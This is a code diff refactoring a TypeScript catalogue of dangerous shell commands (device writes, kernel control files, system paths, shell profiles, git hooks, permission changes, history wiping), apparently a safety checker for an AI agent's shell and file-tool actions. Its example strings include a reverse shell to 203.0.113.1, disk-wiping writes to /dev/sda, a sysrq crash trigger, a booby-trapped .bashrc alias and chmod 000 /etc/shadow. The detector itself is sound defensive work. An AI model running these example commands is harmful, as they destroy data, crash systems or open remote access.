@@ -1,6 +1,6 @@
 // Danger catalogue, files and disks: deletes, disk tools, device writes, permission changes, system files.
 import type { DangerEntry } from './danger-entry.ts';
-import type { Finding } from '../types.ts';
+import type { CommandView } from '../shell/view.ts';
 import { hasFlag, operands } from './flags.ts';
 import { writeTargets } from './write-targets.ts';
 import { isDangerousDevice, isGitInternal, isHistoryFile, isKernelControl, isRootOrHome, isShellProfile, isSystemPath } from './sensitive-targets.ts';
@@ -9,6 +9,17 @@ const RECURSIVE = ['--recursive'];
 const FORCE = ['--force'];
 const RECURSIVE_RM = (args: string[]): boolean => hasFlag(args, 'rR', RECURSIVE);
 const FORCE_RM = (args: string[]): boolean => hasFlag(args, 'f', FORCE);
+/** `/`, or inside a system directory. */
+const isSystemOrRoot = (p: string): boolean => isSystemPath(p) || /^\/+$/.test(p);
+
+/** A matcher over the command's write targets for an entry whose `written` test judges one path. */
+const writes = (written: (path: string, home: string) => boolean) => (v: CommandView): boolean => writeTargets(v).some((p) => written(p, v.home));
+
+const writesDevice = writes(isDangerousDevice);
+const writesProfile = writes(isShellProfile);
+const writesHistory = writes(isHistoryFile);
+const writesSystem = (p: string): boolean => isSystemOrRoot(p) && !isKernelControl(p);
+
 const DISK_TOOLS = /^(mkfs(\..+)?|mke2fs|mkswap|wipefs|fdisk|sfdisk|cfdisk|gdisk|sgdisk|parted|blkdiscard|zpool|badblocks)$/;
 
 /** `install -m 755 …`, `--mode=u+x`: a copy whose mode lets it run (install's default, 755, when no -m is given for files). */
@@ -89,17 +100,20 @@ export const FILE_DANGERS: DangerEntry[] = [
   {
     id: 'write-device', risk: 'high', reason: 'writes onto a device file (disk, raw socket or terminal of another process)',
     examples: ['cat /dev/urandom >/dev/sda', 'cp /dev/zero /dev/sdb', 'echo x | tee /dev/nvme0n1', 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'],
-    match: (v) => v.program !== 'dd' && writeTargets(v).some(isDangerousDevice),
+    written: (p) => isDangerousDevice(p),
+    match: (v) => v.program !== 'dd' && writesDevice(v),
   },
   {
     id: 'kernel-control', risk: 'high', reason: 'writes a kernel control file (/proc/sysrq-trigger crashes or reboots at once)',
     examples: ['echo c >/proc/sysrq-trigger', 'echo 1 | tee /proc/sys/kernel/panic'],
-    match: (v) => writeTargets(v).some(isKernelControl),
+    written: (p) => isKernelControl(p),
+    match: writes(isKernelControl),
   },
   {
     id: 'write-system-path', risk: 'high', reason: 'writes, moves or truncates files in a system directory',
     examples: ['tar -xf evil.tar -C /', 'echo x > /etc/hosts', 'mv /etc ~/.Trash/', 'mv -t /etc ~/Documents/a', 'find . -fprint /etc/passwd', 'truncate -s 0 /var/lib/mysql/ibdata1'],
-    match: (v) => writeTargets(v).some((p) => (isSystemPath(p) || /^\/+$/.test(p)) && !isKernelControl(p)),
+    written: writesSystem,
+    match: writes(writesSystem),
   },
   {
     id: 'rsync-delete', risk: 'high', reason: 'rsync --delete removes every file of the destination that the source lacks',
@@ -116,12 +130,14 @@ export const FILE_DANGERS: DangerEntry[] = [
   {
     id: 'shell-profile-write', risk: 'high', reason: 'writes a shell start-up file: the line runs in every future shell',
     examples: ["echo 'alias cd=\"rm -r\"' >> ~/.bashrc", 'cp evil ~/.zshrc', 'tee -a ~/.profile < x'],
-    match: (v) => writeTargets(v).some((p) => isShellProfile(p, v.home)) || (v.program === 'sed' && hasFlag(v.args, 'i', ['--in-place']) && v.args.some((p) => isShellProfile(p, v.home))),
+    written: isShellProfile,
+    match: (v) => writesProfile(v) || (v.program === 'sed' && hasFlag(v.args, 'i', ['--in-place']) && v.args.some((p) => isShellProfile(p, v.home))),
   },
   {
     id: 'git-internals-write', risk: 'high', reason: 'writes .git/config or a git hook: the next git command runs what it says',
     examples: ['echo x >.git/config', 'cp payload .git/hooks/pre-commit'],
-    match: (v) => writeTargets(v).some(isGitInternal),
+    written: (p) => isGitInternal(p),
+    match: writes(isGitInternal),
   },
   {
     id: 'chmod-recursive-world-writable', risk: 'high', reason: 'recursive chmod that makes a tree world-writable (chmod -R 777)',
@@ -139,7 +155,7 @@ export const FILE_DANGERS: DangerEntry[] = [
     id: 'permissions-system-path', risk: 'high', reason: 'changes the permissions, owner or attributes of a system file (chmod, chown, chattr, setfacl)',
     programs: ['chmod', 'chown', 'chgrp', 'setfacl', 'chattr'],
     examples: ['chmod 000 /etc/shadow', 'chown me /etc/sudoers', 'chattr +i /etc/resolv.conf', 'chmod o+w /usr/local/bin/node'],
-    match: (v) => /^(chmod|chown|chgrp|setfacl|chattr)$/.test(v.program) && v.args.some((p) => p.startsWith('/') && (isSystemPath(p) || /^\/+$/.test(p))),
+    match: (v) => /^(chmod|chown|chgrp|setfacl|chattr)$/.test(v.program) && v.args.some((p) => p.startsWith('/') && isSystemOrRoot(p)),
   },
   {
     id: 'history-wipe', risk: 'medium', reason: 'erases or stops shell history (the record of what ran here)',
@@ -147,7 +163,8 @@ export const FILE_DANGERS: DangerEntry[] = [
     match: (v) => (v.program === 'history' && hasFlag(v.args, 'c', []))
       || (v.program === 'set' && v.args.some((a, i) => a === '+o' && v.args[i + 1] === 'history'))
       || ((v.program === 'rm' || v.program === 'unlink') && operands(v.args).some(isHistoryFile))
-      || writeTargets(v).some(isHistoryFile),
+      || writesHistory(v),
+    written: (p) => isHistoryFile(p),
   },
   {
     id: 'chmod-recursive', risk: 'medium', reason: 'recursive permission change',
@@ -187,27 +204,3 @@ export const FILE_DANGERS: DangerEntry[] = [
   },
 ];
 
-/** What a file tool's write (Write, Edit, MultiEdit, apply_patch) to a path means, as the shell entries judge a redirect there. */
-const FILE_WRITE_CHECKS: [id: string, test: (path: string, home: string) => boolean][] = [
-  ['shell-profile-write', (p, home) => isShellProfile(p, home)],
-  ['git-internals-write', (p) => isGitInternal(p)],
-  ['kernel-control', (p) => isKernelControl(p)],
-  ['write-device', (p) => isDangerousDevice(p)],
-  ['write-system-path', (p) => (isSystemPath(p) || /^\/+$/.test(p)) && !isKernelControl(p)],
-  ['history-wipe', (p) => isHistoryFile(p)],
-];
-
-/**
- * The findings of a file tool writing these absolute paths: the same catalogue entries (id, risk, reason) as a
- * shell command writing them, so `Write ~/.bashrc` is asked about as `echo … >> ~/.bashrc` is.
- */
-export function fileWriteFindings(paths: readonly string[], home: string): Finding[] {
-  const out: Finding[] = [];
-  for (const [id, test] of FILE_WRITE_CHECKS) {
-    const path = paths.find((p) => test(p, home));
-    if (path === undefined) continue;
-    const entry = FILE_DANGERS.find((e) => e.id === id)!;
-    out.push({ id, risk: entry.risk, reason: entry.reason, command: path });
-  }
-  return out;
-}
